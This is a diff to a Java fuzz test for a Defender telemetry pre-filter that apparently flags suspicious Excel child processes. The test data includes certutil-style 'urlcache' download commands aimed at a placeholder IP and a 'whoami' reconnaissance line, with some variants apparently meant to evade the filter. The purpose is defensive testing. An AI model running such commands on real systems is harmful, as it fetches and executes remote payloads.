@@ -39,8 +39,15 @@ class RawPrefilterConservativenessTest {
         "\"\\\"OneDrive.exe\\\" /background\"",
         "\"cmd.exe /c whoami /groups\"",
         "\"x.exe /urlcache /split /f http://198.51.100.7/e.dll\"",
+        "\"x.exe \u2013urlcache -split -f http://198.51.100.7/e.dll\"",
+        "\"x.exe urlcache -split -f http://198.51.100.7/e.dll\"",
+        "\"x.exe -urlcache -split -f http://a.example/b\\\\\"",
         "null",
     };
+    /** Columns that name Excel without making the row an Excel child. */
+    private static final String[] OTHER_EXCEL_COLUMNS = {"FileName", "InitiatingProcessParentFileName",
+        "ProcessVersionInfoOriginalFileName", "initiatingProcessFileName"};
+    private static final String[] JSON_WHITESPACE = {"", " ", "\t", "\r\n", "\n", "  "};
 
     @Test
     void prefilterThenParseFindsWhatParsingEverythingFinds() {
@@ -79,6 +86,9 @@ class RawPrefilterConservativenessTest {
                     .map(row -> envelope(row.contains("ProcessId") ? "DeviceProcessEvents" : "DeviceFileEvents", row))
                     .toArray(String[]::new));
         };
+        if (random.nextInt(3) == 0) {
+            unit = spaceOutColons(unit, random);
+        }
         if (random.nextInt(10) == 0) {
             unit = unit.substring(0, random.nextInt(unit.length()));
         }
@@ -95,11 +105,30 @@ class RawPrefilterConservativenessTest {
         if (random.nextInt(4) != 0) {
             row = withColumn(row, "InitiatingProcessFileName", FILE_NAMES[random.nextInt(FILE_NAMES.length)]);
         }
+        if (random.nextInt(4) == 0) {
+            row = withColumn(row, OTHER_EXCEL_COLUMNS[random.nextInt(OTHER_EXCEL_COLUMNS.length)],
+                    FILE_NAMES[random.nextInt(FILE_NAMES.length)]);
+        }
         if (random.nextInt(4) != 0) {
             row = withColumn(row, "InitiatingProcessCommandLine",
                     COMMAND_LINES[random.nextInt(COMMAND_LINES.length)]);
         }
         return row;
+    }
+
+    /** Puts random JSON whitespace around the colon after each key, which the pre-filter must look past. */
+    private static String spaceOutColons(String unit, SplittableRandom random) {
+        StringBuilder text = new StringBuilder(unit.length() + 64);
+        for (int i = 0; i < unit.length(); i++) {
+            char c = unit.charAt(i);
+            text.append(c);
+            if (c == '"' && i + 1 < unit.length() && unit.charAt(i + 1) == ':' && unit.charAt(i - 1) != '\\') {
+                text.append(JSON_WHITESPACE[random.nextInt(JSON_WHITESPACE.length)]).append(':')
+                        .append(JSON_WHITESPACE[random.nextInt(JSON_WHITESPACE.length)]);
+                i++;
+            }
+        }
+        return text.toString();
     }
 
     /** Flips the case of letters outside escapes, as Defender's mixed-case file names and command lines do. */
